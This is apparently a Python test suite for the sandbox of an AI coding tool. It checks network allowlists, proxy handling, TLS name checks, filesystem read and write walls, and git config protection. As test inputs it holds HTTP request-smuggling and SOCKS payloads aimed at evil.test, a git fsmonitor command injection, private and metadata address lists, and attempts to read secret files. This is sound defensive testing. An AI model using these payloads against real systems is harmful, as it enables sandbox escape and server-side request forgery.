    server = subprocess.Popen(["unshare", "-m", "sh", "-c", view], env=lab.env, stderr=subprocess.DEVNULL)
    try:
        until_listening(port, True)
        ls = "GIT_SSH_COMMAND='ssh -i %s -o IdentitiesOnly=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null' git ls-remote ssh://root@localhost:%d%s" % (key, port, far)
        for user in (None, OTHER):
            out = run_inside(lab, NO_PROXY + "bash -c \"%s\"" % ls, {"network": {"allowedDomains": ["localhost:%d" % port]}}, user)
            assert "refs/heads/main" in out, out
            out = run_inside(lab, NO_PROXY + "bash -c \"%s\"" % ls, {"network": {"allowedDomains": ["localhost:%d" % (port - 1)]}}, user)
            assert "refs/heads/main" not in out and "Connection refused" in out, out
    finally:
        server.terminate()
        server.wait()


def a_strict_list_is_not_widened_by_a_project(lab):
    tree(lab, ("strict",))
    put(lab.work + "/.claude/settings.json", json.dumps({"sandbox": {"network": {"allowedDomains": ["a.test"]}}}))
    for strict in (False, True):
        put(lab.home + "/.claude/settings.json", json.dumps({"sandbox": {"enabled": True, "network": {"strictAllowlist": strict, "allowedDomains": ["b.test"]}}}))
        reached = []
        for host in ("a.test", "b.test"):
            done = subprocess.run([CADRE, "sandbox", "explain", "--json", "--trust-project", host], env=lab.env, cwd=lab.work, stdout=subprocess.PIPE, text=True)
            reached.append(json.loads(done.stdout)["reachable"])
        assert reached == [not strict, True], (strict, reached)


RAW = PY % ("import socket, sys\ns = socket.create_connection((\"127.0.0.1\", 61080), 9)\ns.sendall({0})\n"
            "said = b\"\"\ntry:\n  while d := s.recv(99): said += d\nexcept OSError as e: print(\"closed\", e)\nprint(said)")


def requests_that_mean_two_things_are_refused(lab):
    server = Server()
    tree(lab, ("64",))
    here = "localhost:%d" % server.port
    for bytes_ in ("GET http://%s/ HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n" % here,
                   "GET http://u@%s/ HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % (here, here),
                   "CONNECT %s\\x00.evil.test HTTP/1.1\\r\\n\\r\\n" % here,
                   "CONNECT evil.test\\r%s HTTP/1.1\\r\\n\\r\\n" % here,
                   "GET / HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % here,
                   "GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\nHost: other.test\\r\\n\\r\\n" % (here, here),
                   "GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\nHost : other.test\\r\\n\\r\\n" % (here, here),
                   "GET http://%s/ HTTP/1.1\\r\\n Host: other.test\\r\\n\\r\\n" % here,
                   "GET http://%s/ HTTP/1.1\\r\\nHost\\r\\n : other.test\\r\\n\\r\\n" % here,
                   "GET http://%s/ HTTP/1.1\\nHost: %s\\n\\nGET / HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n" % (here, here),
                   "CONNECT evil.test:80 HTTP/1.1\\r\\n\\r\\nCONNECT %s HTTP/1.1\\r\\n\\r\\n" % here,
                   "CONNECT  %s HTTP/1.1\\r\\n\\r\\n" % here, "CONNECT %s:1 HTTP/1.1\\r\\n\\r\\n" % here,
                   "\\x05\\x01\\x00\\x05\\x01\\x00\\x03\\x05ev\\x00il\\x00\\x50", "\\x04\\x01\\x00\\x50\\x7f\\x00\\x00\\x01\\x00",
                   "\\x05\\x01\\x00\\x05\\x01\\x00\\x03\\xff" + "a" * 255 + "\\x00\\x50"):
        out = run_inside(lab, RAW.format("b\"%s\"" % bytes_), {"network": {"allowedDomains": [here]}})
        assert "400" in out or "403" in out or "blocked: network aaa" in out or "\\x05\\x00\\x05\\x04" in out, (bytes_, out)
    assert not server.seen, server.seen


def a_name_behind_an_allowed_one_is_not_asked_for(lab):
    if os.geteuid() != 0:
        raise Skip("port 443 is root's")
    try:
        server = Server(443)
    except OSError:
        raise Skip("port 443 is taken") from None
    tree(lab, ("sni",))
    hello = PY % ("import socket, ssl\nc = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = 0\n"
                  "s = socket.create_connection((\"127.0.0.1\", 443), 9)\n"
                  "try: c.wrap_socket(s, server_hostname=\"{0}\")\nexcept OSError as e: print(e)")
    lists = {"network": {"allowedDomains": ["localhost:443"]}}
    run_inside(lab, hello.format("localhost"), lists)
    assert len(server.seen) == 1 and b"localhost" in server.seen[0], server.seen
    out = run_inside(lab, hello.format("evil.test"), lists)
    assert not any(b"evil" in s for s in server.seen), server.seen
    assert "evil.test:443 (asked for behind localhost)" in out, out
    records = PY % ("import socket, ssl\ni, o = ssl.MemoryBIO(), ssl.MemoryBIO()\nc = ssl.create_default_context()\n"
                    "try: c.wrap_bio(i, o, server_hostname=\"evil.test\").do_handshake()\nexcept ssl.SSLWantReadError: pass\n"
                    "hello = o.read()[5:]\nrecord = lambda kind, b: bytes([kind, 3, 1]) + len(b).to_bytes(2, \"big\") + b\n"
                    "s = socket.create_connection((\"127.0.0.1\", 443), 9)\n"
                    "s.sendall({0} + b\"\".join(record(22, hello[i:i + {1}]) for i in range(0, len(hello), {1})))\n"
                    "try: print(s.recv(99))\nexcept OSError as e: print(e)")
    for before, size in (("b\"\"", 3), ("b\"\"", 200), ("record(22, b\"\")", 9999), ("record(21, b\"\\x01\\x5a\")", 9999)):
        del server.seen[:]
        out = run_inside(lab, records.format(before, size), lists)
        assert not any(server.seen) and "blocked: network" in out, (before, size, server.seen, out)


def what_the_settings_cannot_mean_is_said(lab):
    tree(lab, ("70",))
    run_inside(lab, "true", {"network": {"allowedDomains": ["*", "ok.test"]}, "filesystem": {"allowWrite": ["~/c*"]}})
    done = subprocess.run([CADRE, "sandbox", "status", "--json"], env=lab.env, cwd=lab.work, stdout=subprocess.PIPE, text=True)
    answer = json.loads(done.stdout)
    assert done.returncode == 0 and answer["strength"] == "full", answer
    assert any("would allow every host" in n and "settings.json:" in n for n in answer["notes"]), answer        # 70
    assert any("has a wildcard" in n for n in answer["notes"]), answer                                            # 19
    assert [e["value"] for e in answer["entries"]] == ["ok.test"], answer
    lab.model("rule\n  text ok")
    done = lab.cadre("-p", "hi")  # a run goes on without it, and says so
    assert done.code == 0 and 'allowedDomains: "*" (%s/.claude/settings.json:1) would allow every host' % lab.home in done.err, done


def said_by(lab, *args, settings):
    put(lab.home + "/.claude/settings.json", json.dumps({"sandbox": settings}, indent=1))
    return subprocess.run([CADRE, *args], env={**lab.env, "TMPDIR": "/tmp"}, cwd=lab.work, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


def a_value_of_the_wrong_shape_is_said_and_nothing_runs(lab):
    """Each key of `sandbox` with values of every type: those that do not fit are named with file and line, and no command runs."""
    tree(lab, ("keys",))
    keys = {k["key"]: k["expected"] for k in json.loads(said_by(lab, "config", "keys", "--json", settings={}).stdout) if k["key"].startswith("sandbox.") and not k["managedOnly"]}
    values = [5, -1, 70000, "x", True, ["x"], [5], [["x"]], {"a": 1}, {"a": ["x"]}, {"a": [5]}]
    fits = {"true or false": [True], "an array of strings": [["x"]], "a whole number from 1 to 65535": [5], "an object of arrays of strings": [{"a": ["x"]}]}
    rows = [("credentials", {"files": v}) for v in (5, "~/token", {}, [7], [{"pth": "~/token"}], [{"path": 5}], [{"path": ""}], [{"path": "~/token", "mode": "dney"}], [["~/token"]])]
    rows += [("credentials", {"envVars": v}) for v in ("X", [5], [{"path": "X"}], [{"name": ["X"]}])] + [("credentials", {"file": ["~/token"]})]
    for key, kind in keys.items():
        rows += [(key[8:], v) for v in values if v not in fits.get(kind, []) and kind != "anything"]
    assert len(rows) > 200, len(rows)

    def one(key, value):
        own = Lab()
        try:
            tree(own, ("keys",))
            settings = {}
            place = settings
            *groups, name = key.split(".")
            for group in groups:
                place = place.setdefault(group, {})
            place[name] = value
            done = said_by(own, "sandbox", "run", "--", "bash", "-c", "echo RAN", settings=settings)
            good = done.returncode == 2 and "RAN" not in done.stdout and "settings.json:" in done.stderr and "sandbox.%s: expected" % key in done.stderr
            return [] if good else [(key, value, done.returncode, done.stdout, done.stderr)]
        finally:
            own.close()
    some = random.Random(70).sample(rows, 60) + rows[:14]  # each needs a process
    with concurrent.futures.ThreadPoolExecutor(3) as pool:
        bad = sum(pool.map(lambda row: one(*row), some), [])
    assert not bad, bad
    done = said_by(lab, "sandbox", "status", "--json", settings={"credentials": {"files": [5]}})
    assert any("settings.json:" in n and "sandbox.credentials: expected" in n for n in json.loads(done.stdout)["notes"]), done
    done = said_by(lab, "sandbox", "run", "--", "bash", "-c", "cat ~/token; env", settings={"credentials": {"files": ["~/token"], "envVars": ["TERM"]}})
    assert "TOPSECRET" not in done.stdout and "ermission denied" in done.stderr and "TERM=" not in done.stdout, done


def explain_says_what_the_kernel_does(lab):
    """Paths at random: what is explained as writable can be written, what is not cannot; the same for reading."""
    places = tree(lab, ("87",))
    chance = random.Random(14)
    for i in range(12):
        put(lab.work + "/t%d/u%d/f" % (i % 4, i), "x\n")
        put(lab.home + "/h%d/f" % i, "x\n")
    settings = fill({"filesystem": {"allowWrite": ["~/h1", "~/h2", "~/h3/f"], "denyWrite": ["{work}/t1", "~/h2/f"], "denyRead": ["{work}/t2", "~/h4", "~/h5"],
                                    "allowRead": ["{work}/t2/u6", "~/h5/f"]}}, places)
    run_inside(lab, "true", settings)
    paths = [str(p) for root in (lab.home, lab.work) for p in below(root) if p.is_file() and ".git/" not in str(p) and ".claude" not in str(p)]
    paths += ["/etc/passwd", lab.work + "/.git/config", lab.work + "/.git/HEAD", lab.work + "/there/.mcp.json"]
    chance.shuffle(paths)
    tried = run_inside(lab, "for p in %s; do r=no; w=no; test -r $p && cat $p >/dev/null 2>&1 && r=yes; (: >>$p) 2>/dev/null && w=yes; echo $p $r $w; done" % " ".join(paths),
                       settings)
    seen = {line.split()[0]: line.split()[1:] for line in tried.splitlines() if len(line.split()) == 3}
    assert len(seen) == len(set(paths)), tried
    for path in paths:
        done = subprocess.run([CADRE, "sandbox", "explain", "--json", path], env=lab.env, cwd=lab.work, stdout=subprocess.PIPE, text=True)
        answer = json.loads(done.stdout)
        said = ["yes" if answer[k] else "no" for k in ("readable", "writable")]
        assert said == seen[path], (path, answer, seen[path])


def the_walls_hold_under_every_condition(lab):
    done = subprocess.run([PLAIN_CADRE, "sandbox", "test", "--all", "--json"], env={**lab.env, "TMPDIR": "/tmp"}, cwd=lab.work, stdout=subprocess.PIPE, text=True)
    assert done.returncode == 0, done.stdout[-3000:]
    rows = []
    for c in json.loads(done.stdout)["conditions"]:
        result = c["result"]
        cells = []
        for hold in ("reads", "edits", "inside"):
            held = [a[hold] for a in result["attacks"] if a[hold] != "-"]
            assert set(held) in ({"held"}, {"asked"}), (c["condition"], hold, held)
            cells.append("%d held" % len(held) if held[0] == "held" else "asked about")
        rows.append("| %s | %s |" % (c["condition"], " | ".join(cells)))
    if os.geteuid() == 0:  # the table of the documentation is this one
        text = (ROOT / "docs" / "sandbox.md").read_text()
        assert "\n".join(rows) in text, "docs/sandbox.md should have:\n" + "\n".join(rows)


def what_run_refuses_is_said_with_the_next_step(lab):
    tree(lab, ("56",))
    out = run_inside(lab, "curl -s http://evil.test/; true")
    assert "blocked: network evil.test:80" in out and "--host NAME" in out and "dangerouslyDisableSandbox" not in out, out
    out = run_inside(lab, "true", options=("--write", lab.folder + "/nowhere"))
    assert "nowhere: it does not exist; make it first" in out, out
    done = subprocess.run([CADRE, "sandbox", "run", "--", "true"], env={**lab.env, "TMPDIR": "/tmp"}, cwd=lab.folder, stdin=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    assert done.returncode and "your home is in it" in done.stderr and "sandbox.filesystem.allowWrite" in done.stderr, done


def a_wall_that_is_missing_is_found(lab):                                                                                # 87
    for wall in ("protected", "hidden", "seccomp", "landlock"):
        done = subprocess.run([CADRE, "sandbox", "test", "--json"], env={**lab.env, "TMPDIR": "/tmp", "CADRE_TEST_WITHOUT_WALL": wall}, cwd=lab.work,
                              stdout=subprocess.PIPE, text=True)
        seen = [a["what"] for a in json.loads(done.stdout)["attacks"] if "OPEN" in a.values()]
        assert done.returncode == 1 and seen, (wall, done.stdout)


def signals_are_kept_back_where_landlock_cannot(lab):
    """As before Linux 6.12. A command that reads gets a cell; where there is none, the filter has no signals."""
    for options in ((), ("--without=namespaces",)):
        done = subprocess.run([CADRE, "sandbox", "test", "--json", *options], env={**lab.env, "TMPDIR": "/tmp", "CADRE_TEST_WITHOUT_WALL": "scopes"}, cwd=lab.work,
                              stdout=subprocess.PIPE, text=True)
        reads = {a["what"]: a["reads"] for a in json.loads(done.stdout)["attacks"]}
        assert done.returncode == 0 and reads["signal a process outside"] == "held", (options, done.stdout)


def each_subcommand_answers_in_json_and_has_help(lab):
    tree(lab, ("10",))
    put(lab.home + "/.claude/settings.json", json.dumps({"sandbox": {
        "enabled": True, "allowUnsandboxedCommands": True, "excludedCommands": ["docker *"], "enableWeakerNestedSandbox": True, "allowNestedUserNamespaces": True,
        "filesystem": {"disabled": True, "allowWrite": ["~"]}, "network": {"allowAllUnixSockets": True, "allowLocalBinding": True}}}))

    def cadre(*args):
        return subprocess.run([CADRE, "sandbox", *args], env={**lab.env, "TMPDIR": "/tmp"}, cwd=lab.work, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, text=True)
    help_text = cadre("--help").stdout
    for args, member in ((["status"], "strength"), ([], "strength"), (["explain", lab.work], "writable"), (["explain", "x.test"], "reachable"),
                         (["explain", "docker ps"], "inside"), (["run", "--", "true"], "status"), (["test", "--attempt=unix-socket"], "did"), (["apparmor"], "profile")):
        done = cadre(*args[:1], "--json", *args[1:])
        assert member in json.loads(done.stdout), (args, done)
        assert not args or "cadre sandbox " + args[0] in help_text.replace("[status]", "status"), (args, help_text)
        assert cadre(*args[:1], "--help").stdout == help_text, args
    holes = " ".join(json.loads(cadre("status", "--json").stdout)["holes"])
    for word in ("allowUnsandboxedCommands", "excludedCommands", "enableWeakerNestedSandbox", "allowNestedUserNamespaces", "filesystem.disabled", "allowWrite",
                 "allowAllUnixSockets", "allowLocalBinding", ".ssh"):
        assert word in holes, (word, holes)
    profile = json.loads(cadre("apparmor", "--json").stdout)
    assert profile["program"] == os.path.realpath(CADRE) and "\n  userns,\n" in profile["profile"] and '"%s"' % profile["program"] in profile["profile"]
    assert len(profile["commands"]) == 2 and profile["profile"].strip() == cadre("apparmor").stdout.strip()
    if shutil.which("apparmor_parser"):
        subprocess.run(["apparmor_parser", "-Q", "-K"], input=profile["profile"], text=True, check=True)


# Where a name may lead, and whether an entry that is exactly this name is enough. Under a wildcard none is; 10.99.0.7 is this machine's own.
LEADS = [("10.99.0.1", True), ("172.16.5.5", True), ("192.168.1.1", True), ("100.64.0.1", True), ("fd12::1", True), ("127.0.0.1", False), ("127.8.8.8", False), ("::1", False),
         ("0.0.0.0", False), ("::", False), ("169.254.169.254", False), ("169.254.1.1", False), ("fe80::1", False), ("224.0.0.1", False), ("255.255.255.255", False), ("ff02::1", False),
         ("::ffff:10.99.0.1", True), ("::ffff:127.0.0.1", False), ("64:ff9b::7f00:1", False), ("64:ff9b::a63:1", True), ("2002:7f00:1::1", False), ("100.100.100.200", False),
         ("fd00:ec2::254", False), ("10.99.0.7", False)]


def a_name_under_a_wildcard_leads_to_no_private_address(lab):                                                             # 60
    if os.geteuid() != 0:
        raise Skip("only root has a network namespace with names of its own")
    tree(lab, ("60",))
    hosts = "".join("%s w%d.wild.test e%d.test\n" % (address, i, i) for i, (address, _) in enumerate(LEADS))
    put(lab.folder + "/hosts", "127.0.0.1 localhost\n" + hosts)
    exact = ["e%d.test" % i for i in range(len(LEADS))]
    put(lab.home + "/.claude/settings.json", json.dumps({"sandbox": {"enabled": True, "network": {"allowedDomains": ["*.wild.test", *exact]}}}))
    names = exact + ["w%d.wild.test" % i for i in range(len(LEADS))]
    done = subprocess.run(["unshare", "-mn", "sh", "-c", "ip link set lo up && ip addr add 10.99.0.7/32 dev lo && mount --bind %s/hosts /etc/hosts && exec \"$@\"" % lab.folder, "sh",
                           CADRE, "sandbox", "run", "--json", "--trace", "--", "bash", "-c", "for h in %s; do echo $h $(curl -s -m 20 http://$h/); done" % " ".join(names)],
                          env={**lab.env, "TMPDIR": "/tmp"}, cwd=lab.work, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True, timeout=120)
    said = {line.split()[0]: line for line in done.stdout.splitlines() if ".test " in line}
    assert set(said) == set(names), done.stdout
    refused = {r["what"].split(":")[0] for r in json.loads(done.stdout[done.stdout.rindex('{"status"'):])["refused"] if r["kind"] == "network"}
    for i, (address, enough) in enumerate(LEADS):
        for name, may in (("e%d.test" % i, enough), ("w%d.wild.test" % i, False)):
            assert (name not in refused) == may, (address, name, said[name], may)
            assert ("unreachable" in said[name] or "cannot" in said[name] or "refused" in said[name]) == may or not may, (address, said[name])


def a_killed_cadre_leaves_no_process_and_no_change(lab):
    tree(lab, ("23",))
    run_inside(lab, "true")
    before = {str(p): p.read_bytes() for p in below(lab.work) if p.is_file()}
    mounts = pathlib.Path("/proc/self/mountinfo").read_text()
    daemon = "sleep 987.%d" % os.getpid()
    script = "(env -i setsid %s &) ; echo ready; sleep 986" % daemon
    script = "mkdir -p $TMPDIR/a/b; for i in $(seq 300); do echo x >$TMPDIR/a/b/$i; done; ln -s %s $TMPDIR/out; " % lab.work + script
    put(lab.home + "/.claude/settings.json", json.dumps({"sandbox": {"enabled": True, "autoAllowBashIfSandboxed": True, "filesystem": {"denyRead": ["~/token"]},
                                                                      "cadre": {"hooks": "all"}}}))
    lab.model("rule\n  turn 1\n%s\nrule\n  text ok\n" % call("Bash", command=script.replace("echo ready", "echo ready >started")))
    for args in (("sandbox", "run", "--", "bash", "-c", script), ("sandbox", "run", "--read-only", "--", "bash", "-c", script), ("-p", "hi")):
        temp = pathlib.Path(lab.folder, "temp")
        temp.mkdir()
        run = lab.start(*args, cwd=lab.work, env={"TMPDIR": str(temp), "CLAUDE_CODE_TMPDIR": str(temp)})
        if args[0] == "-p":
            until(lambda: os.path.exists(lab.work + "/started") or run.process.poll() is not None, lambda: run.err)
            assert run.process.poll() is None, run.err
            os.unlink(lab.work + "/started")
        else:
            assert run.line() == "ready"
        assert len([p for p in below(temp) if p.is_file()]) >= 300
        run.kill()
        run.wait()
        lab.wait_for_nobody()  # the keeper too
        left = [str(p) for p in below(temp) if not p.is_dir()]
        assert not left, left[:9]
        shutil.rmtree(temp)

    def names():
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                yield pathlib.Path("/proc", pid, "cmdline").read_bytes()
            except OSError:
                pass
    until(lambda: not any(daemon.replace(" ", "\0").encode() in n for n in names()), "a daemon is left")  # its environment has no mark
    assert {str(p): p.read_bytes() for p in below(lab.work) if p.is_file()} == before
    assert pathlib.Path("/proc/self/mountinfo").read_text() == mounts


def a_configuration_of_git_that_is_replaced_outside_is_not_written_inside(lab):
    """A rename outside takes the mount away that makes it read-only; what the command adds is put back, and what git itself adds stays."""
    for added, stays in (("[core]\\n\\tfsmonitor = touch PWNED\\n", False), ("[user]\\n\\tname = me\\n", True)):
        tree(lab, ("5",))
        put(lab.home + "/.claude/settings.json", json.dumps({"sandbox": {"enabled": True}}))
        run = subprocess.Popen([CADRE, "sandbox", "run", "--", "bash", "-c", "echo up; until test -e go; do sleep 0.01; done; printf '%s' >>.git/config && echo WROTE" % added], cwd=lab.work,
                               env={**lab.env, "TMPDIR": "/tmp"}, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
        assert run.stdout.readline() == "up\n"
        subprocess.run(["git", "-C", lab.work, "config", "remote.origin.url", "https://x.test/y"], check=True, env=lab.env)
        put(lab.work + "/go", "")
        said = run.communicate()[0]
        text = pathlib.Path(lab.work, ".git", "config").read_text()
        assert "WROTE" in said and ("name = me" in text) == stays and "fsmonitor" not in text and ("put back" in said) != stays, (said, text)


def connections_that_never_speak_are_closed(lab):
    tree(lab, ("69",))
    out = run_inside(lab, PY % ("import socket, time\nstart = time.monotonic()\nall = [socket.create_connection((\"127.0.0.1\", 61080), 30) for _ in range(300)]\n"
                                "refused = 0\nlate = 0\nfor s in reversed(all):\n  s.settimeout(30)\n  try: data = s.recv(1)\n  except ConnectionError: data = b\"\"\n"
                                "  assert not data\n  if time.monotonic() - start < 8: refused += 1\nprint(refused, 9 < time.monotonic() - start < 25)"))
    assert out == "44 True\n", out


def until_listening(port, wanted, run=None):
    def listens():
        with socket.socket() as s:
            s.settimeout(9)
            return s.connect_ex(("127.0.0.1", port)) == 0
    until(lambda: listens() == wanted, (port, wanted))


SERVE = PY % ("import socket, sys\ns = socket.create_server((\"127.0.0.1\", {0}))\nprint(\"ready\", flush=True)\n"
              "for i in range({1}):\n  c = s.accept()[0]\n  d = c.recv(9)\n  c.sendall(d.upper()) if d else None\n  c.close()\ns.close()\nprint(\"done\", flush=True)")


def ports_of_the_inside_appear_outside_if_the_settings_say_so(lab):
    """allowLocalBinding: more connections than there are sockets of the inside, one after the other; a port goes with its program."""
    port, = free_ports(1)
    taken = socket.create_server(("127.0.0.1", 0))
    for user in (None, OTHER) if os.geteuid() == 0 else (None,):
        for opened in (False, True):
            tree(lab, ("binding",))
            put(lab.home + "/.claude/settings.json", json.dumps({"sandbox": {"enabled": True, "network": {"allowLocalBinding": opened}}}))
            more = {}
            if user is not None:
                subprocess.run(["chown", "-R", "%d:%d" % (user, user), lab.home, lab.work], check=True)
                more = {"user": user, "group": user, "extra_groups": []}
            script = SERVE.format(taken.getsockname()[1], 1) + " >o & until grep -sq ready o; do sleep 0.01; done; " + SERVE.format(port, 61) + "; kill $!; echo more; until test -e go; do sleep 0.01; done"
            run = subprocess.Popen([CADRE, "sandbox", "run", "--", "bash", "-c", script], env={**lab.env, "TMPDIR": "/tmp"}, cwd=lab.work, stdin=subprocess.DEVNULL,
                                   stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, **more)
            assert run.stdout.readline() == "ready\n"
            if opened:
                until_listening(port, True)  # the first of the visitors
                for i in range(60):
                    with socket.create_connection(("127.0.0.1", port), 9) as s:
                        s.sendall(b"hello")
                        assert s.recv(9) == b"HELLO", i
                assert run.stdout.readline() == "done\n" and run.stdout.readline() == "more\n"
                until_listening(port, False)
                put(lab.work + "/go", "")
            else:
                try:
                    socket.create_connection(("127.0.0.1", port), 9)
                    raise AssertionError("it appeared")
                except ConnectionRefusedError:
                    run.terminate()
            out = run.communicate()[0]
            assert not opened or "does not appear outside: it is taken there" in out, out
            until_listening(port, False)
    taken.close()


OVERLAY = """cd %s && mkdir -p low mem over && mount -t tmpfs none mem && mkdir mem/up mem/tmp || exit 77
mount -t overlay none -o lowerdir=low,upperdir=mem/up,workdir=mem/tmp over || exit 77
cd over && exec "$@"
"""


def a_file_system_that_shows_other_numbers_lets_own_sockets_pass_and_no_others(lab):
    """In overlayfs stat(2) and the kernel's list of sockets name a file by different devices: containers have it."""
    if os.geteuid() != 0:
        raise Skip("only root mounts")
    tree(lab, ("50",))
    inside = ("{0}/connect --bind own.sock >out & until grep -sq bound out; do sleep 0.01; done; {0}/connect own.sock; {0}/connect out.sock").format(lab.folder + "/tools")
    outside = "python3 -c 'import socket, subprocess, sys; s = socket.socket(socket.AF_UNIX); s.bind(\"out.sock\"); s.listen(1); subprocess.run(sys.argv[1:])' \"$@\""
    done = subprocess.run(["unshare", "-m", "sh", "-c", OVERLAY % lab.folder, "sh", "sh", "-c", outside, "sh", CADRE, "sandbox", "run", "--", "bash", "-c", inside],
                          env={**lab.env, "TMPDIR": "/tmp"}, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, timeout=60)
    if done.returncode == 77:
        raise Skip("no overlayfs")
    said = [line for line in done.stdout.splitlines() if line.startswith(("DID", "refused"))]
    assert len(said) == 2 and said[0].startswith("DID") and said[1].startswith("refused"), done.stdout


def the_checks_hold_as_root(lab):
    if os.geteuid() == 0:
        check(ROWS)


def the_checks_hold_as_an_ordinary_user(lab):
    check(ROWS, OTHER if os.geteuid() == 0 else None)


if __name__ == "__main__":  # those that wait or are long first
    main(connections_that_never_speak_are_closed, requests_that_mean_two_things_are_refused, the_checks_hold_as_root, the_checks_hold_as_an_ordinary_user,
         a_wall_that_is_missing_is_found, what_run_refuses_is_said_with_the_next_step, signals_are_kept_back_where_landlock_cannot, the_walls_hold_under_every_condition, lookups_and_literals_of_both_families_end_here,
         a_proxy_of_the_user_gets_what_the_lists_let_pass, rules_for_tools_count_inside_too, a_strict_list_is_not_widened_by_a_project,
         programs_that_know_no_proxy_reach_listed_hosts_and_no_others, a_name_behind_an_allowed_one_is_not_asked_for, what_the_settings_cannot_mean_is_said, a_value_of_the_wrong_shape_is_said_and_nothing_runs,
         git_reaches_a_listed_host_over_ssh_and_no_other, explain_says_what_the_kernel_does, each_subcommand_answers_in_json_and_has_help, a_name_under_a_wildcard_leads_to_no_private_address,
         a_configuration_of_git_that_is_replaced_outside_is_not_written_inside,
         ports_of_the_inside_appear_outside_if_the_settings_say_so, a_killed_cadre_leaves_no_process_and_no_change,
         a_file_system_that_shows_other_numbers_lets_own_sockets_pass_and_no_others, at_once=4, without_cell=())
